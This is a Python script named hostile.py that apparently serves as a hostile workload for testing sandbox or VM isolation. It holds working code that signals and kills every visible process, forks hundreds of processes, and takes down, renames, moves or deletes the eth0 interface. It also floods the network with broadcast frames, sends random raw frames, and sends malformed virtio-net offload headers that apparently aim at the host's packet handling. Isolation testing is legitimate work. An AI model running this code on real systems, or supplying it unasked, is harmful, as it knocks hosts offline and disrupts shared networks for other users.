"""Does harm in the host that it runs in, until it is killed.

Usage: hostile.py interfaces | kill | fork | flood | frames | headers
"""
import os
import random
import signal
import socket
import struct
import subprocess
import sys
import time

BROADCAST = b"\xff" * 6


def quietly(*command):
    return subprocess.run(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL).returncode


def interfaces():
    """Renames, moves and deletes its interfaces."""
    elsewhere = subprocess.Popen(["unshare", "--net", "sleep", "1000"])
    for name in ("evil", "eth0"):
        for command in (f"set eth0 down", "set eth0 name evil", f"set {name} netns {elsewhere.pid}", f"delete {name}"):
            quietly("ip", "link", *command.split())
            time.sleep(0.1)


def kill():
    """Sends signals to all processes that it sees."""
    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
        try:
            os.kill(-1, number)
        except ProcessLookupError:
            pass
        for process in filter(str.isdigit, os.listdir("/proc")):
            try:
                if int(process) != os.getpid():
                    os.kill(int(process), number)
            except OSError:
                pass
    time.sleep(0.05)


def fork():
    """Starts processes that do the same, 500 at most where nothing else limits them."""
    for _ in range(500):
        try:
            if os.fork() == 0:
                time.sleep(1000)
        except OSError:
            break
    time.sleep(1000)


def packets(header):
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    if header:
        wire.setsockopt(263, 15, 1)  # SOL_PACKET, PACKET_VNET_HDR
    wire.bind(("eth0", 0))
    return wire


def send(wire, frame):
    try:
        wire.send(frame)
    except OSError:
        pass  # the kernel refuses what it sees through


def flood():
    """Sends full frames to all as fast as it can."""
    wire = packets(False)
    frame = BROADCAST + wire.getsockname()[4] + b"\x88\xb5" + bytes(1486)
    while True:
        send(wire, frame)


def frames():
    """Sends frames of random bytes, some of which look like IP, ARP or ICMPv6."""
    wire, rng = packets(False), random.Random(1)
    types = (b"\x08\x00", b"\x08\x06", b"\x86\xdd", b"\x81\x00", b"\x88\xa8")
    while True:
        target = rng.choice((BROADCAST, b"\x33\x33\x00\x00\x00\x01", rng.randbytes(6)))
        body = bytearray(rng.randbytes(rng.randrange(0, 1400)))
        kind = rng.choice(types)
        if body and kind in (b"\x08\x00", b"\x86\xdd"):
            body[0] = 0x45 if kind == b"\x08\x00" else 0x60
        send(wire, target + wire.getsockname()[4] + kind + body)
        time.sleep(0.0002)


def headers():
    """Sends super-frames whose offload headers lie."""
    wire, rng = packets(True), random.Random(2)
    while True:
        payload = rng.randbytes(rng.randrange(0, 30_000))
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40 + len(payload), 1, 0, 64, rng.choice((6, 17, 200)), 0, b"\x0a" * 4, b"\x0a" * 4)
        tcp = struct.pack("!HHIIBBHHH", 1, 2, 3, 4, rng.choice((0x50, 0x00, 0xf0)), 0x10, 1, 0, 0)
        header = struct.pack(
            "=BBHHHH",
            rng.choice((0, 1, 2, 3)),
            rng.choice((0, 1, 3, 4, 5, 0x81)),
            rng.choice((0, 14, 54, 60_000)),
            rng.choice((0, 1, 7, 1448, 65_535)),
            rng.choice((0, 14, 34, 65_000)),
            rng.choice((0, 6, 16, 65_000)),
        )
        send(wire, header + BROADCAST + wire.getsockname()[4] + b"\x08\x00" + ip + tcp + payload)
        time.sleep(0.0005)


harm = {f.__name__: f for f in (interfaces, kill, fork, flood, frames, headers)}[sys.argv[1]]
while True:
    try:
        harm()
    except OSError:
        time.sleep(0.05)
